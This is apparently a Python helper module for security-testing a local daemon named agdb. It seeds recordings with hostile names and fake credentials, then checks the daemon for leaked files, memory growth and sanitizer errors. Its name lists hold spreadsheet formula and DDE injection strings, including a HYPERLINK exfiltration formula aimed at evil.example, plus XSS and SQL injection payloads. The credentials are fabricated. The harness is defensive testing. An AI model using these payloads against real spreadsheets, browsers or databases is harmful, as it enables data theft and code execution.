"""The daemon that is attacked: begun, looked after from outside, and ended."""

import json
import os
import pathlib
import resource
import select
import shutil
import signal
import subprocess
import tempfile

from raw_http import PATIENCE, Asking, Broken, Connection

AGDB = os.path.abspath(os.environ["AGDB"])

# Such as a spreadsheet would run, such as a browser would, such as a database would; and the plain.
FORMULAS = ["=HYPERLINK(\"http://evil.example/?x=\"&A1)", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1", "=1,\"2\";3"]
MARKUP = ["<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "</script><svg/onload=alert(1)>"]
QUOTES = ["'; DROP TABLE runs; --", "plain"]
NAMES = FORMULAS + MARKUP + QUOTES

# The store keeps a reader open for each worker that has needed one.
MOST_READERS = 8
MOST_GROWN_KB = 96 << 10
# Sanitizers keep what was let go of, to see who still touches it.
MOST_GROWN_SANITIZED_KB = 1 << 20


def key_of(*parts):
    """A secret that stands in no file of the project."""
    return "".join(parts)


SECRETS = {
    "anthropic_key": key_of("sk-ant-", "api03-", "aB3dE6gH9jK2mN5pQ8sT" * 4),
    "github_token": key_of("ghp_", "Zx9Cv8Bn7Mq6Wl5Er4Ty3Ui2Op1As0Df9Gh8"),
    "aws_key_id": key_of("AKIA", "Q3EXW7ZB5LK2MN9P"),
    "private_key": key_of("-----BEGIN ", "PRIVATE KEY-----\n", "MIIEvQIBADANBgkqhkiG9w0BAQEFAASC\n" * 4,
                          "-----END ", "PRIVATE KEY-----"),
    "url_password": key_of("postgres://admin:", "h7Gk2Lp9Qx4Z", "@db.internal/prod"),
}


SECRET_NAME = f"look with {SECRETS['github_token']}"


def script(name, texts=("done",)):
    turns = [{"text": "", "calls": [{"id": f"c{i}", "name": "look", "arguments": {}, "result": text}]}
             for i, text in enumerate(texts)]
    return {"agdb_script": 1, "agents": {"main": {"intent": name, "turns": [*turns, {"text": "done"}]}}}


class Victim:
    def __init__(self, *words):
        allow_many_files()
        self.folder = pathlib.Path(tempfile.mkdtemp(prefix="agdb-hostile-"))
        self.words = words or ("--http", "127.0.0.1:0")
        self.pid = None

    def __enter__(self):
        return self

    def __exit__(self, *_):
        if self.pid is not None:
            try:
                os.kill(self.pid, signal.SIGKILL)
            except ProcessLookupError:
                pass
        shutil.rmtree(self.folder, ignore_errors=True)

    def agdb(self, *words):
        environment = {"PATH": os.environ["PATH"], "HOME": str(self.folder), "TZ": "UTC",
                       "AGDB_SOCKET": str(self.folder / "s" / "agdb.sock")}
        for name in ("ASAN_OPTIONS", "UBSAN_OPTIONS", "TSAN_OPTIONS"):
            if name in os.environ:
                environment[name] = os.environ[name]
        return subprocess.run([AGDB, *map(str, words)], cwd=self.folder, env=environment, capture_output=True,
                              text=True, errors="replace", timeout=300)

    def must(self, *words):
        done = self.agdb(*words)
        if done.returncode != 0:
            raise Broken(f"agdb {' '.join(map(str, words))}: exit {done.returncode}\n{done.stdout}\n{done.stderr}")
        return done.stdout

    def write(self, name, content, mode=0o600):
        path = self.folder / name
        path.write_text(content if isinstance(content, str) else json.dumps(content))
        path.chmod(mode)
        return path

    def fill(self):
        """Recordings and traces, of which names and contents are hostile."""
        for name in NAMES:
            self.must("run", self.write("script.json", script(name)), "--record")
        self.must("run", self.write("script.json", script(SECRET_NAME, SECRETS.values())), "--record")

    def begin(self, token=None):
        self.must("serve", "--detach", *self.words)
        status = json.loads(self.must("status", "--json"))
        self.pid, self.listeners = status["os_pid"], status["listeners"]
        self.port = int(self.listeners["http"].rpartition(":")[2])
        self.asking = Asking(self.port, token)

    def ask(self, request):
        with Connection(self.port) as connection:
            connection.send(request)
            return connection.answer()

    def get(self, target, *fields):
        return self.ask(self.asking.get(target, *fields))

    def settle(self):
        """What is how it is while nobody attacks: the files that are open, by kind, and the memory."""
        for target in ("/", "/metrics", "/v1/traces", "/v1/status", "/v1/traces/export?format=csv"):
            for _ in range(10):
                self.get(target)
        # The connection of the question before may not have been let go of yet: so the fewest of some rounds.
        rounds = []
        for _ in range(50):
            self.get("/")
            rounds.append(self.descriptors())
        self.usual = {kind: min(now.get(kind, 0) for now in rounds) for kind in rounds[0]}
        self.usual_kb = self.memory_kb()
        maps = pathlib.Path(f"/proc/{self.pid}/maps").read_text()
        self.most_grown_kb = MOST_GROWN_SANITIZED_KB if "san.so" in maps else MOST_GROWN_KB

    def descriptors(self):
        kinds = {}
        folder = pathlib.Path(f"/proc/{self.pid}/fd")
        for entry in folder.iterdir():
            try:
                kind = os.readlink(entry).partition(":")[0]
            except FileNotFoundError:
                continue
            kinds[kind] = kinds.get(kind, 0) + 1
        return kinds

    def memory_kb(self):
        for line in pathlib.Path(f"/proc/{self.pid}/status").read_text().splitlines():
            if line.startswith("VmRSS:"):
                return int(line.split()[1])
        raise Broken("the daemon has no memory: it has ended")

    def troubles(self):
        """What is not as it was before: nothing, if all is well."""
        answer = self.get("/v1/traces?limit=1")
        if answer.status != 200:
            yield f"a good request is answered {answer}"
        # A connection that was let go of ends when the server's loop comes to it; each question is a
        # round of that loop.
        for _ in range(500):
            now = self.descriptors()
            if all(count <= (MOST_READERS if ".agdb/store.db" in kind else self.usual.get(kind, 0))
                   for kind, count in now.items()):
                break
            self.get("/")
        else:
            yield f"open files were {self.usual} and are {now}"
        grown = self.memory_kb() - self.usual_kb
        if grown > self.most_grown_kb:
            yield f"has grown by {grown} kB"

    def end(self):
        """Trouble, if it does not end well when asked to."""
        process = os.pidfd_open(self.pid)
        done = self.agdb("shutdown")
        if done.returncode != 0:
            yield f"shutdown: exit {done.returncode} {done.stderr}"
        elif not select.select([process], [], [], PATIENCE)[0]:
            yield "it was shut down, and still runs"
        else:
            self.pid = None
        os.close(process)
        log = "".join(path.read_text(errors="replace") for path in (self.folder / "s").glob("*.log"))
        for word in ("Sanitizer", "runtime error:", "terminate called", "assertion", "data race"):
            if word in log:
                yield f"its log says {word}: {log[-4000:]}"


def allow_many_files():
    """For the flood of connections, here and in the daemon, which inherits it."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if soft != hard:
        resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, 8192) if hard > 0 else 8192, hard))
